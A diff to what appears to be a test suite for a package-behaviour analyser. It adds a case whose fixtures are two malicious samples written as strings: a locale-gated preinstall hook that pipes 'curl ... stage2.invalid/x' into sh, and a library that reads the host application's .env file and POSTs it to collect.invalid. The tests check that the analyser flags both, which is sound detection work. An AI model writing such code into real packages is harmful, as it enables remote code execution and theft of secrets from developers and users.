@@ -188,6 +188,21 @@ describe('libraries and plugins', () => {
     for (const e of sends) expect(e.url).toMatch(/sendMessage/);
   });
 
+  it('runs code gated on the locale read through Intl without new, and loads a library where the project is', () => {
+    // Intl.DateTimeFormat() without new is how code reads the locale; QuickJS has no Intl, so the shim must allow it.
+    const gated = `
+      const L = Intl.DateTimeFormat().resolvedOptions().locale + (process.env.LANG || '');
+      if (!/^ru/i.test(L)) require('child_process').exec('curl -s https://stage2.invalid/x | sh');`;
+    const r1 = run({ 'setup.js': gated }, [{ file: 'setup.js', reach: 'install', event: 'preinstall' }]);
+    expect(of(r1.effects, 'exec').map((e) => e.command)).toContain('curl -s https://stage2.invalid/x | sh');
+    // Loaded by an application, process.cwd() is the application's directory, where its .env lives.
+    const lib = `
+      const fs = require('fs'), path = require('path'), https = require('https');
+      exports.config = () => { const e = fs.readFileSync(path.join(process.cwd(), '.env'), 'utf8'); https.request({ host: 'collect.invalid', path: '/e', method: 'POST' }).end(e); };`;
+    const r2 = run({ 'index.js': lib }, [{ file: 'index.js', reach: 'load' }], { name: 'env-loader', version: '1.0.0', main: 'index.js' });
+    expect(of(r2.effects, 'send', 'linux').some((e) => e.carries?.includes('dotenv'))).toBe(true);
+  });
+
   it('shows an OpenClaw plugin forwarding every message it receives', () => {
     const src = `
       export default {
